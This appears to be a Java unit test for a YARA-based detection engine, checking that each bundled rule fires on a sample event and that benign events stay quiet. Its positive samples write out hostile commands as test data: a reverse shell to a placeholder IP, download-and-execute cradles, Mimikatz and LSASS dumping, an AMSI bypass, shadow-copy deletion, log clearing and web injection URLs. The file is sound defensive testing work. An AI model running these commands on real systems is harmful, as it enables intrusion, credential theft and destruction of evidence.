package io.centinela.yara;

import io.centinela.testkit.SharedData;
import io.centinela.event.Event;
import io.centinela.yara.compile.RuleSource;
import io.centinela.yara.policy.PolicyEventScanner;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;

import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.util.Base64;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.TreeSet;
import java.util.regex.Matcher;
import java.util.regex.Pattern;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

/** The project's own rules (rules/src/main/resources/yara) through the engine and the default policy. */
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class OwnRulesTest {

    private YaraEngine engine;
    private PolicyEventScanner scanner;

    @BeforeAll
    void start() {
        engine = YaraEngine.start(YaraConfig.defaults(List.of()));
        scanner = engine.newScanner();
    }

    @AfterAll
    void stop() {
        scanner.close();
        engine.close();
    }

    private List<String> rulesHit(Event e) {
        return scanner.scan(e).stream().map(YaraMatch::rule).distinct().toList();
    }

    private static Event cmd(String commandLine) {
        return Events.parse("{\"EventID\":1,\"Channel\":\"Microsoft-Windows-Sysmon/Operational\",\"Computer\":\"ws\","
                + "\"CommandLine\":" + Events.quote(commandLine) + "}");
    }

    private static Event url(String url) {
        return Events.parse("{\"url\":{\"original\":" + Events.quote(url) + "},\"http\":{\"request\":{\"method\":\"GET\"}}}");
    }

    private static String utf16b64(String ps) {
        return Base64.getEncoder().encodeToString(ps.getBytes(StandardCharsets.UTF_16LE));
    }

    /** One positive sample per rule: every bundled rule must be covered here. */
    private static Map<String, Event> positives() {
        Map<String, Event> m = new LinkedHashMap<>();
        m.put("CENTINELA_PowerShell_EncodedCommand", cmd("powershell.exe -NoP -enc " + utf16b64("Write-Output 'hello from a test'")));
        m.put("CENTINELA_PowerShell_Encoded_Malicious_Keywords",
                cmd("powershell -e " + utf16b64("IEX (New-Object Net.WebClient).DownloadString('http://x/a')")));
        m.put("CENTINELA_PowerShell_Hidden_NonInteractive", cmd("powershell.exe -NoProfile -WindowStyle Hidden -File a.ps1"));
        m.put("CENTINELA_PowerShell_AMSI_Bypass", Events.parse("{\"EventID\":4104,\"Channel\":\"Microsoft-Windows-PowerShell/Operational\","
                + "\"ScriptBlockText\":\"[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiInitFailed','NonPublic,Static').SetValue($null,$true)\"}"));
        m.put("CENTINELA_PowerShell_Download_Cradle", cmd("powershell -c \"IEX (New-Object Net.WebClient).DownloadString('http://10.1.1.1/p.ps1')\""));
        m.put("CENTINELA_LOLBin_Download", cmd("certutil.exe -urlcache -split -f http://203.0.113.7/p.exe C:\\Users\\Public\\p.exe"));
        m.put("CENTINELA_Unix_Download_Pipe_Shell", Events.parse("{\"process\":{\"command_line\":\"curl -s http://203.0.113.9/i.sh | bash\"}}"));
        m.put("CENTINELA_EICAR_Test_File", Events.parse("{\"attachment\":{\"content_b64\":\"" + Base64.getEncoder().encodeToString(
                "X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*".getBytes(StandardCharsets.US_ASCII)) + "\"}}"));
        m.put("CENTINELA_EICAR_Base64_In_Text", Events.parse("{\"email\":{\"body_text\":\"inline: " + Base64.getEncoder().encodeToString(
                "xx EICAR-STANDARD-ANTIVIRUS-TEST-FILE xx".getBytes(StandardCharsets.US_ASCII)) + "\"}}"));
        m.put("CENTINELA_Mimikatz_Commands", cmd("m.exe \"privilege::debug\" \"sekurlsa::logonpasswords\" exit"));
        m.put("CENTINELA_LSASS_Dump_Commandline", cmd("rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\t\\l.dmp full"));
        m.put("CENTINELA_Reverse_Shell_Commandline", Events.parse("{\"CommandLine\":\"bash -i >& /dev/tcp/203.0.113.9/4444 0>&1\"}"));
        m.put("CENTINELA_Web_SQL_Injection", url("http://shop/pagar.jsp?modo=%27%2C%270%27%29%3Bwaitfor+delay+%270%3A0%3A15%27%3B--"));
        m.put("CENTINELA_Web_Path_Traversal", url("http://h/download?file=..%2f..%2f..%2fetc%2fpasswd"));
        m.put("CENTINELA_Web_Script_Injection", url("http://h/search?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E"));
        m.put("CENTINELA_Shadow_Copy_Deletion", cmd("vssadmin.exe Delete Shadows /All /Quiet"));
        m.put("CENTINELA_Event_Log_Clearing", cmd("wevtutil.exe cl Security"));
        return m;
    }

    @Test
    void everyRuleFiresOnItsSampleWithAuthorAndSeverity() {
        Map<String, Event> samples = positives();
        assertEquals(bundledRuleNames(), new TreeSet<>(samples.keySet()), "each bundled rule has a positive sample");
        for (var e : samples.entrySet()) {
            List<YaraMatch> matches = scanner.scan(e.getValue());
            YaraMatch m = matches.stream().filter(x -> x.rule().equals(e.getKey())).findFirst()
                    .orElseThrow(() -> new AssertionError(e.getKey() + " did not fire; got " + matches));
            assertEquals("Centinela project", m.author());
            assertTrue(Set.of("low", "medium", "high", "critical").contains(m.meta().get("severity")), m.toString());
            assertTrue(m.namespace().startsWith(BundledRules.NAMESPACE_PREFIX), m.namespace());
            assertTrue(!m.strings().isEmpty() || m.rule().contains("EICAR"), m.toString());
        }
    }

    @Test
    void benignEventsDoNotFire() {
        List<Event> benign = List.of(
                cmd("powershell.exe -NoProfile -Command \"Get-Service | Where-Object Status -eq Running\""),
                cmd("C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule"),
                cmd("\"C:\\Program Files\\Git\\cmd\\git.exe\" fetch --prune origin"),
                cmd("powershell.exe -ExecutionPolicy Bypass -File C:\\scripts\\inventory.ps1"),
                url("http://localhost:8080/tienda1/publico/pagar.jsp?modo=insertar&precio=7990&B1=Pasar+por+caja"),
                url("https://example.com/search?q=union+station+selection"),
                Events.parse("{\"email\":{\"subject\":\"Q2 report\",\"body_text\":\"Please find the report attached. Select all, union of sets.\"}}"));
        for (Event e : benign) {
            assertEquals(List.of(), rulesHit(e), e.fields().toString());
        }
    }

    @Test
    void sharedTestdataEventsThroughThePolicy() throws Exception {
        var dir = SharedData.yara("testdata");
        Map<String, List<String>> expected = new LinkedHashMap<>();
        expected.put("eicar_email_attachment_b64.json", List.of("CENTINELA_EICAR_Test_File"));
        expected.put("benign_ps_encodedcommand_4688.json", List.of("CENTINELA_PowerShell_EncodedCommand"));
        expected.put("benign_email_attachment_b64.json", List.of());
        expected.put("benign_ps_4104.json", List.of());
        expected.put("benign_sysmon1_cmdline.json", List.of());
        for (var e : expected.entrySet()) {
            Event event = Events.parse(Files.readString(dir.resolve(e.getKey())));
            assertEquals(e.getValue(), rulesHit(event), e.getKey());
        }
        YaraMatch eicar = scanner.scan(Events.parse(Files.readString(dir.resolve("eicar_email_attachment_b64.json")))).get(0);
        assertEquals("attachment.content_b64", eicar.scannedField());
        assertEquals(0, eicar.strings().get(0).offset());
    }

    private static Set<String> bundledRuleNames() {
        Pattern rule = Pattern.compile("(?m)^rule\\s+(\\w+)");
        Set<String> names = new TreeSet<>();
        for (RuleSource s : BundledRules.sources()) {
            String text = new String(s.text(), StandardCharsets.UTF_8);
            Matcher m = rule.matcher(text);
            while (m.find()) {
                names.add(m.group(1));
            }
            assertTrue(s.imports().isEmpty(), s.origin() + " must stay import-free (it scans event text)");
        }
        assertTrue(names.size() >= 15, names.toString());
        return names;
    }
}
